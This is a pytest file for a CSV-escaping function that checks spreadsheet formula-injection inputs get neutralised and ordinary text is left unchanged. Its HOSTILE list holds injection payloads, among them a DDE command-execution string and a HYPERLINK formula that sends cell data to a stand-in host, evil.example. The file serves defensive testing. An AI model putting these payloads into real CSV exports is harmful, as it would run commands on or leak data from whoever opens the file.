"""No cell of a CSV file runs in a spreadsheet."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from corridor.core.csv_cells import STARTS_A_FORMULA, cell, csv_text

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\x00=1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_cell_makes_text_of_what_would_run(text: str) -> None:
    assert cell(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["Maya", "O’Neil", "2026-09-14 10:00", "", "a=b", "1-2", "Ana-María"]
)
def test_cell_leaves_ordinary_words_alone(text: str) -> None:
    assert cell(text) == text


def test_csv_text_keeps_every_cell_one_cell() -> None:
    rows = [[text, 'with "quotes", commas\nand lines', None] for text in HOSTILE]
    read = list(csv.reader(StringIO(csv_text(["Name", "Note", "More"], rows), newline="")))
    assert read[0] == ["Name", "Note", "More"]
    assert [len(row) for row in read] == [3] * (len(HOSTILE) + 1)
    assert not any(value.lstrip().startswith(STARTS_A_FORMULA) for row in read for value in row)
